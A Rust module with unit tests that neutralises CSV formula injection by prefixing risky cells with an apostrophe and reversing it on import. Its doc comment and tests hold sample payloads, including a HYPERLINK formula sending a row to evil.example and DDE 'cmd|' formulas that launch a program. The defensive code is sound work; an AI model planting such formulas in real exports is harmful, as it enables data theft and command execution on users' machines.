//! Cells of the CSV files the portal writes are opened in Excel or LibreOffice by adjusters and
//! support staff, and their text often comes from someone else: an item description, a display
//! name, the User-Agent of a failed sign-in. A spreadsheet runs a cell that starts with `=`, `+`,
//! `-` or `@` as a formula (and one that starts with a tab or carriage return after trimming it),
//! so `=HYPERLINK("https://evil.example/?"&A2,"Receipt")` would send the row to another site and
//! `=cmd|"/C calc"!A0` would ask to start a program. Quoting the cell does not help: the quotes
//! are CSV syntax and are gone before the spreadsheet reads the value.
//!
//! The defence (OWASP "CSV Injection") is a leading apostrophe, which tells the spreadsheet the
//! cell is text and is not shown. Every CSV writer of the portal passes every cell through
//! [`guard`], and the inventory import passes every cell through [`unguard`], so a downloaded
//! inventory imports as the same items.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula when they come first.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The text marker spreadsheets understand and hide.
const MARK: char = '\'';

/// A cell a spreadsheet reads as a number and nothing else: an optional `-`, one or more ASCII
/// digits, and optionally a `.` followed by one or more ASCII digits (`-3`, `-12.50`, `0.5`).
/// This is the only shape the portal writes numbers in. Everything else that starts with a
/// formula character is guarded, even where a spreadsheet would also read a number: a leading
/// `+` (`+1 555 0100` is a phone number, and `+1` typed into Excel becomes the formula `=+1`),
/// exponents (`-1e5`), a bare or trailing point (`-.5`, `-1.`), thousands separators, spaces,
/// and anything after the digits (`-1+cmd|' /C calc'!A0`). A guarded number still shows its
/// exact text, only as text.
pub fn is_plain_number(cell: &str) -> bool {
    fn digits(s: &str) -> bool {
        !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit())
    }
    let unsigned = cell.strip_prefix('-').unwrap_or(cell);
    match unsigned.split_once('.') {
        Some((whole, fraction)) => digits(whole) && digits(fraction),
        None => digits(unsigned),
    }
}

/// Whether `cell`, with its leading apostrophes removed, starts with a formula character.
fn formula_after_marks(cell: &str) -> bool {
    cell.trim_start_matches(MARK).starts_with(FORMULA_STARTS)
}

/// The cell as it must be written to a CSV file: with an apostrophe in front when it starts with
/// a formula character and is not a plain number ([`is_plain_number`]).
///
/// A cell that already starts with apostrophes followed by a formula character (`'=x`, which a
/// user can type) gets one more, so that [`unguard`] gives back exactly what was written; other
/// cells starting with an apostrophe (`'90s lamp`) are left alone.
pub fn guard(cell: &str) -> Cow<'_, str> {
    let needs_mark = if cell.starts_with(MARK) {
        formula_after_marks(cell)
    } else {
        cell.starts_with(FORMULA_STARTS) && !is_plain_number(cell)
    };
    if needs_mark { Cow::Owned(format!("{MARK}{cell}")) } else { Cow::Borrowed(cell) }
}

/// The inverse of [`guard`], for imported cells: a cell that starts with apostrophes followed by a
/// formula character loses one apostrophe; every other cell is returned unchanged.
pub fn unguard(cell: &str) -> &str {
    match cell.strip_prefix(MARK) {
        Some(rest) if formula_after_marks(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_formula_start_is_marked() {
        for cell in [
            "=HYPERLINK(\"https://evil.example/?\"&A2,\"Receipt\")",
            "=cmd|\"/C calc\"!A0",
            "+1 555 0100",
            "@SUM(A1)",
            "@home",
            "-dash",
            "\t=1+1",
            "\r=1+1",
            "=",
            "+",
            "-",
            "@",
        ] {
            assert_eq!(guard(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn plain_negative_numbers_stay_numbers() {
        for cell in ["-3", "-12.50", "-0", "-0.5", "-007", "-1234567890.0123"] {
            assert!(is_plain_number(cell), "{cell:?}");
            assert_eq!(guard(cell), cell, "{cell:?}");
        }
        for cell in ["0", "12.50", "3"] {
            assert!(is_plain_number(cell), "{cell:?}");
        }
    }

    #[test]
    fn things_that_only_look_like_numbers_are_marked() {
        for cell in [
            "-1+cmd|' /C calc'!A0",
            "-1+1",
            "-1-1",
            "+1e5",
            "-1e5",
            "-1E5",
            "+1",
            "+12.50",
            "--1",
            "-+1",
            "-.5",
            "-1.",
            "-1.2.3",
            "-1,000",
            "- 1",
            "-1 ",
            "-1\n=1+1",
            "-١",
            "-Infinity",
            "-NaN",
        ] {
            assert!(!is_plain_number(cell), "{cell:?}");
            assert_eq!(guard(cell), format!("'{cell}"), "{cell:?}");
        }
        assert!(!is_plain_number(""));
        assert!(!is_plain_number("1e5"));
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for cell in
            ["", "Toaster", "Sofa = 3 seats", " =not first", "\n=1", "12 + 3", "'90s lamp", "'", "''", "{\"a\":1}"]
        {
            assert_eq!(guard(cell), cell, "{cell:?}");
            assert_eq!(unguard(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn cells_already_starting_with_an_apostrophe_and_a_formula_get_one_more() {
        assert_eq!(guard("'=x"), "''=x");
        assert_eq!(guard("''+1"), "'''+1");
        assert_eq!(guard("'-3"), "''-3", "the number exception is for bare numbers only");
        assert_eq!(unguard("''=x"), "'=x");
    }

    #[test]
    fn unguard_removes_exactly_the_mark_guard_adds() {
        let cells = [
            "=SUM(A1)",
            "+1 555",
            "@home",
            "-dash",
            "\tindented",
            "\rx",
            "-3",
            "-12.50",
            "-1e5",
            "'=x",
            "''@y",
            "'-3",
            "'90s",
            "'",
            "plain",
            "",
        ];
        for cell in cells {
            assert_eq!(unguard(&guard(cell)), cell, "{cell:?}");
        }
        assert_eq!(unguard("'=SUM(A1)"), "=SUM(A1)");
        assert_eq!(unguard("'\tx"), "\tx");
        assert_eq!(unguard("'hello"), "'hello", "only before a formula character");
        assert_eq!(unguard("-3"), "-3");
    }
}
